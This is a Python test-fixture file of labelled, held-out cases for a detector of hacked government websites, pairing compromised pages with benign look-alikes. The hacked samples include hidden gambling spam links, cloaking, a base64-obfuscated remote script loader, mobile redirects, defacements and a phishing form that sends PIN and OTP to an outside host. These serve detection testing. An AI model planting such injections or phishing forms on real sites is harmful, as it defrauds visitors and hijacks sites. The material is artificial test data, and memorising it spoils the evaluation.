"""A sixth set held out: the attacks as they mostly occur, written after the fifth had been mended for, judged once."""

from collections.abc import Sequence

from tests.support.labelled.case import Case
from tests.support.labelled.fourth_frames import adminlte, cards, elementor, joomla4, laravel, nextjs, opensid


def _case(hacked: bool, name: str, trick: str, body: str, **more: object) -> Case:
    return Case(f"sixth-{name}", trick, hacked, body, held_out=True, **more)  # type: ignore[arg-type]


def _bad(name: str, trick: str, body: str, **more: object) -> Case:
    return _case(True, name, trick, body, **more)


def _ok(name: str, trick: str, body: str, **more: object) -> Case:
    return _case(False, name, trick, body, **more)


def _p(*texts: str) -> str:
    return "".join(f"<p>{text}</p>" for text in texts)


def _a(*pairs: tuple[str, str]) -> str:
    return "\n".join(f'<a href="https://{host}">{text}</a>' for host, text in pairs)


_HOME = joomla4("Sekretariat Daerah Kabupaten OKI")
_MIX = _a(
    ("pakarslot.co", "Pakar Slot"),
    ("kpktoto.info", "KPKTOTO"),
    ("alexabet.link", "ALEXABET88"),
    ("mpo1221.me", "mpo1221"),
)
_FORCED = _a(
    ("desa-bumi.org/go", "situs gampang menang"), ("stikes-x.org", "akun demo"), ("yayasanku.or.id", "pg slot anti lag")
)

_HACKED = [
    _bad(
        "div-none", "hidden div", laravel("BPKAD Provinsi", foot=f"<div style='display: none !important;'>{_MIX}</div>")
    ),
    _bad(
        "div-offset",
        "hidden div",
        elementor("Kemenag Muba", foot=f"<div style='position:fixed; left:-5000px; top:0'>{_FORCED}</div>"),
    ),
    _bad("div-vh", "hidden div", elementor("UPTD Samsat", foot=f"<div style='margin-left:-9999em'>{_MIX}</div>")),
    _bad(
        "div-onepx",
        "hidden div",
        nextjs("Portal Lahat", foot=f"<span style='font-size:1px;color:#f8f8f8'>{_MIX}</span>"),
    ),
    _bad(
        "div-class",
        "hidden div",
        joomla4(
            "Dinas TPH",
            head="<style>.nvx{overflow:hidden;height:1px;position:absolute}</style>",
            foot=f"<section class='nvx'>{_FORCED}</section>",
        ),
    ),
    _bad(
        "div-text-id",
        "hidden div",
        opensid(
            "Desa Lebung",
            foot="<div style='display:none'>Situs judi slot online terpercaya 2025 dengan RTP tertinggi, bonus new member 100% di depan, deposit pulsa tanpa potongan.</div>",
        ),
    ),
    _bad(
        "div-obat",
        "hidden div",
        elementor(
            "Puskesmas Alang",
            foot="<div style='display:none'><a href='https://herbal-jaya.store'>obat pembesar</a><a href='https://vimaxku.shop'>vimax asli</a><a href='https://ciaalis.site'>cialis 80mg</a></div>",
        ),
    ),
    _bad("title-official", "title swap", elementor("KPKTOTO ⚡ Bandar Toto Macau Terpercaya #1")),
    _bad("title-login", "title swap", laravel("ALEXABET88 | Login | Daftar | Link Alternatif ALEXABET88 Terbaru")),
    _bad(
        "title-meta",
        "title swap",
        joomla4(
            "Sekretariat Daerah",
            head='<meta name="description" content="Main game mahjong ways 2 scatter hitam gampang maxwin cuma modal receh di server Thailand"><meta property="og:image" content="https://alexabet.link/amp.jpg">',
        ),
    ),
    _bad("title-joker", "title swap", elementor("joker123 apk download – slot joker gaming versi terbaru")),
    _bad("title-sdy", "title swap", opensid("Live Draw SDY Tercepat Hari Ini – Data Pengeluaran Sydney 6D")),
    _bad("title-japanese", "title swap", laravel("【公式】ロレックス スーパーコピー N級品 時計 優良店")),
    _bad("title-chinese", "title swap", elementor("开云体育-kaiyun(中国)官方网站-登录入口")),
    _bad("glyph", "homoglyphs", elementor("ꜱʟᴏᴛ ɢᴀᴄᴏʀ ⚡ ᴅᴇᴘᴏ 𝟱ᴋ", foot=f"<div hidden>{_FORCED}</div>")),
    _bad("glyph-leet", "homoglyphs", joomla4("Agen J-u-d-i 0nline T0g3l S.l.o.t G@cor")),
    _bad(
        "cloak-amp",
        "cloaking",
        _HOME,
        crawled="<!doctype html><html amp><head><title>ALEXABET88 : Daftar Akun Pro Platinum</title><link rel=canonical href=https://setda.okikab.go.id/></head><body><amp-img src=https://alexabet.link/a.webp></amp-img><a href=https://alexabet.link/daftar>DAFTAR</a><table><tr><td>Minimal Deposit</td><td>Rp 5.000</td></tr></table></body></html>",
    ),
    _bad(
        "cloak-doorway",
        "cloaking",
        _HOME,
        crawled=joomla4(
            "Slot Dana – Sekretariat Daerah",
            "<h1>Slot Dana 5000 Tanpa Potongan</h1>" + _p("Bermain di situs resmi kami gampang jackpot."),
        ),
    ),
    _bad("js-simple", "injected JS", elementor("DP3A", head='<script src="//pakarslot.co/p.js"></script>')),
    _bad(
        "js-mobile",
        "injected JS",
        laravel(
            "Dinas ESDM",
            foot="<script>if(/Mobi|Android/i.test(navigator.userAgent)){window.location.href='https://t.ly/xxslot';}</script><script>if(screen.width<768)location.replace('https://mpo1221.me/m')</script>",
        ),
    ),
    _bad(
        "js-base64",
        "injected JS",
        joomla4(
            "Dinas Sosial",
            foot="<script>var x=document.createElement('script');x.src=window.atob('aHR0cHM6Ly9zdGF0LWNsb3VkLnRvcC9hLmpz');document.body.appendChild(x);</script>",
        ),
    ),
    _bad(
        "meta-zero",
        "meta refresh",
        '<html><head><meta http-equiv="refresh" content="0;URL=\'https://alexabet.link/\'"></head></html>',
    ),
    _bad(
        "robots-sm",
        "robots",
        _HOME,
        paths={
            "/robots.txt": "User-agent: *\nAllow: /\nSitemap: https://setda.okikab.go.id/slotdana/sitemap.xml\nSitemap: https://setda.okikab.go.id/toto-macau/sitemap.xml"
        },
    ),
    _bad(
        "deep-assets",
        "deep path",
        _HOME,
        paths={
            "/assets/slot-gacor/": elementor(
                "Slot Gacor 2025", "<h1>Slot Gacor</h1><a href=https://alexabet.link>Klik Daftar</a>"
            )
        },
    ),
    _bad("farm", "link farm", elementor("Dinas PUPR", foot="<div class='backlink'>" + _MIX + _FORCED + "</div>")),
    _bad(
        "comments",
        "comment spam",
        elementor(
            "Artikel Sanitasi",
            "<article>"
            + _p("Sanitasi total berbasis masyarakat.")
            + "</article><div id=comments><p><a href=http://alexabet.link>slot online</a> terima kasih min</p><p><a href=http://kpktoto.info>toto macau</a> izin share</p><p><a href=http://cheapmeds.su>buy cialis</a> nice</p></div>",
        ),
    ),
    _bad(
        "deface-1",
        "full deface",
        "<title>Hacked by TuanMuda1337</title><body bgcolor=black><center><img src=https://i.postimg.cc/x.png><h1>H4ck3d by TuanMuda1337</h1><i>Security is just an illusion</i></center>",
    ),
    _bad(
        "deface-2",
        "full deface",
        "<html><head><title>404</title></head><body style='background:black'><h1 style='color:red'>Owned By Bl4ck_Rose</h1><p>We are: Zayn - R4mz - L0rd</p></body></html>",
    ),
    _bad(
        "deface-3",
        "full deface",
        laravel(
            "Dinas Perpustakaan",
            "<h3>Maaf pak, web ini saya hack untuk belajar. Jangan marah ya. Backup index ada di /index.bak</h3><p>~ anak magang</p>",
        ),
    ),
    _bad(
        "deface-4",
        "political",
        "<html><head><title>DPR = Dewan Pengkhianat Rakyat</title></head><body style='background-color:#000000'><img src='/x.jpg'><h1>Rakyat bukan musuh! Usut tuntas!</h1><h2>#PeringatanDarurat</h2></body></html>",
    ),
    _bad(
        "image-black",
        "image only",
        "<html><head><title></title></head><body style='background:#000 url(https://i.imgur.com/def.jpg) center/cover no-repeat'></body></html>",
    ),
    _bad(
        "phish",
        "form phishing",
        "<html><head><title>Pencairan Bansos PKH 2025</title></head><body><form action='https://dana-bansos.vercel.app/api' method=post><input placeholder='Nomor HP DANA'><input type=password placeholder='PIN DANA'><input placeholder='Kode OTP'></form></body></html>",
    ),
]

_CLEAN = [
    _ok(
        "kapolres",
        "news on gambling",
        elementor(
            "Kapolres: Pengecer Togel dan Bandar Judi Slot Akan Ditindak",
            _p("Tersangka mengaku setor ke bandar tiap malam. Polisi menyita uang Rp 1,2 juta dan rekap angka."),
        ),
    ),
    _ok("bupati", "news on gambling", joomla4("Bupati Larang ASN Main Judi Online dan Pinjol")),
    _ok(
        "video",
        "news on gambling",
        laravel(
            "Video: Bahaya Slot Gacor bagi Generasi Muda",
            "<iframe src='https://www.youtube.com/embed/abc'></iframe>" + _p("Tonton video edukasi dari Diskominfo."),
        ),
    ),
    _ok(
        "opini",
        "news on gambling",
        elementor(
            "Opini: Mengapa Judi Slot Menggoda?",
            _p(
                "Mesin slot dirancang agar pemain merasa hampir menang. Bonus, jackpot, dan free spin adalah umpan. Psikolog menyebutnya near miss."
            ),
        ),
    ),
    _ok(
        "statistik",
        "news on gambling",
        nextjs(
            "Statistik Aduan Konten 2025",
            "<table><tr><td>Perjudian</td><td>12.402</td></tr><tr><td>Pornografi</td><td>3.201</td></tr><tr><td>Penipuan daring</td><td>900</td></tr></table>",
        ),
    ),
    _ok(
        "tag",
        "news on gambling",
        elementor(
            "Arsip Tag: judi online – Diskominfo",
            cards(("Diskominfo Bersihkan 14 Subdomain dari Konten Judi", "Rakor Pemberantasan Judi Online")),
        ),
    ),
    _ok(
        "putusan",
        "law",
        laravel(
            "Direktori Putusan: Perkara 303/Pid.B/2024 Perjudian Togel",
            _p(
                "Menyatakan terdakwa terbukti bersalah tanpa izin menawarkan permainan judi jenis togel Hongkong dan Sydney."
            ),
        ),
    ),
    _ok(
        "fatwa",
        "law",
        joomla4(
            "Fatwa MUI tentang Judi Online",
            _p("Hukum judi online dalam segala bentuknya, termasuk slot dan taruhan bola, adalah haram."),
        ),
    ),
    _ok(
        "kicau",
        "homonyms",
        elementor(
            "Kontes Kicau: Murai Gacor dan Kacer Juara Piala Wali Kota",
            _p("Burung gacor dinilai dari irama, volume dan durasi kerja."),
        ),
    ),
    _ok(
        "parkir", "homonyms", laravel("Info Slot Parkir Real Time Stasiun LRT", _p("Slot kosong: 77 motor, 88 mobil."))
    ),
    _ok("kuota", "homonyms", opensid("Slot Bansos Tersisa 138 KPM", desa="Toto Harjo")),
    _ok(
        "biliar",
        "homonyms",
        elementor(
            "POBSI Gelar Kejuaraan Biliar 9 Ball, Hadiah Total 50 Juta",
            _p("Peserta 128 pebiliar. Link pendaftaran dan bonus juara diumumkan panitia."),
        ),
    ),
    _ok("bandar", "homonyms", laravel("Penataan Bandar Jaya dan Pelabuhan Bandar Sri Mulyo")),
    _ok(
        "undi",
        "homonyms",
        elementor(
            "Hasil Drawing Liga Antar Kampung: Live Draw di Kanal Dispora",
            _p("Pengundian grup turnamen sepak bola disiarkan langsung."),
        ),
    ),
    _ok(
        "game-edu",
        "homonyms",
        nextjs(
            "Game Edukasi Putar Roda Keberuntungan Cerdas Cermat",
            _p("Spin roda lalu jawab pertanyaan. Skor tertinggi mendapat hadiah."),
        ),
    ),
    _ok(
        "spin",
        "homonyms",
        adminlte(
            "Laporan SPIN RSUD",
            _p("SPIN (Sistem Pelaporan Insiden) bonus cuti tahunan, RTP ruang tindakan persalinan."),
        ),
    ),
    _ok(
        "pharmacy",
        "homonyms",
        adminlte(
            "Penyuluhan Disfungsi Ereksi",
            _p(
                "Dokter urologi menjelaskan penggunaan sildenafil (Viagra) harus dengan resep. Jangan membeli obat kuat sembarangan."
            ),
        ),
    ),
    _ok(
        "aborsi",
        "news on scams",
        elementor("Polisi Bongkar Penjualan Obat Aborsi Ilegal", _p("Tersangka menjual cytotec lewat media sosial.")),
    ),
    _ok(
        "login-88",
        "login page",
        '<html><head><title>SIMRS88 Login</title></head><body><form action="/login"><input name=user><input name=pass type=password></form><a href="/daftar">Daftar akun</a></body></html>',
    ),
    _ok(
        "hacked-news",
        "security advisory",
        laravel(
            "BSSN: 190 Situs Pemerintah Diretas untuk Judi Online",
            _p("BSSN mencatat peretasan web defacement. Pengelola diminta menutup celah dan memperbarui kata sandi."),
        ),
    ),
    _ok(
        "ctf",
        "security advisory",
        elementor(
            "Workshop Ethical Hacking: Belajar Web Defacement dan Penanganannya",
            _p("Peserta CTF belajar meretas mesin uji lalu menutup celah. Pemateri dari komunitas Ghost Security."),
        ),
    ),
    _ok(
        "obituary",
        "plain",
        joomla4("In Memoriam", "<div style='background:#000;color:#fff'><p>Selamat jalan, pahlawan kami.</p></div>"),
    ),
    _ok(
        "hero",
        "hidden but honest",
        elementor(
            "Kabupaten PALI",
            foot="<div class='popup' style='opacity:0;visibility:hidden'><a href='https://bit.ly/skmpali'>Isi SKM</a><img src='/p.jpg' alt='Stop Judi Online'></div>",
        ),
    ),
    _ok(
        "agenda",
        "plain",
        laravel("Agenda Gubernur", _p("09.00 Rapat DPRD; 13.00 Audiensi Bank; 19.00 Nonton bareng final.")),
    ),
    _ok(
        "eng",
        "foreign language",
        elementor(
            "Musi Triboatton 2025",
            "<h1>International Boat Race</h1>"
            + _p(
                "Register your team now, limited slots available. Winner takes bonus prize. Live streaming on YouTube."
            ),
        ),
    ),
    _ok(
        "arab",
        "foreign language",
        joomla4("موقع مدينة باليمبانغ", _p("مرحبا بكم في مدينة باليمبانغ عاصمة سومطرة الجنوبية", "أهلا وسهلا بالزوار")),
    ),
    _ok(
        "empty",
        "SPA shell",
        '<!doctype html><html><head><title>SIPD</title><base href="/"><link rel="stylesheet" href="styles.css"></head><body><app-root></app-root><script src="runtime.js" type="module"></script></body></html>',
    ),
    _ok(
        "splash",
        "image only",
        '<html><head><title>Kabupaten Empat Lawang</title></head><body style="background:#003"><a href="/web"><img src="/splash.png" alt="Selamat datang"></a></body></html>',
    ),
    _ok(
        "moved",
        "redirect",
        '<html><head><title>301 Moved Permanently</title></head><body><h1>Moved Permanently</h1><p>The document has moved <a href="https://web.sumselprov.go.id/">here</a>.</p></body></html>',
    ),
    _ok(
        "dispora-sitemap",
        "other paths",
        _HOME,
        paths={
            "/sitemap.xml": "<urlset>"
            + "".join(
                f"<url><loc>https://setda.okikab.go.id/{s}</loc></url>"
                for s in (
                    "berita/asn-main-slot",
                    "tag/judi-online",
                    "agenda/slot-vaksin",
                    "berita/gacor-burung",
                    "profil",
                )
            )
            + "</urlset>"
        },
    ),
    _ok("crawl-mini", "crawled", _HOME, crawled=joomla4("Sekretariat Daerah Kabupaten OKI", cards()[:900])),
    _ok(
        "pejabat",
        "plain",
        opensid(
            "Daftar Kepala Dusun",
            _p("Toto Hartono, Hoki Wijaya, Zeus Pratama, Dewa Gede, Raja Naga, Slot Simanjuntak."),
        ),
    ),
]

CASES: Sequence[Case] = [*_HACKED, *_CLEAN]
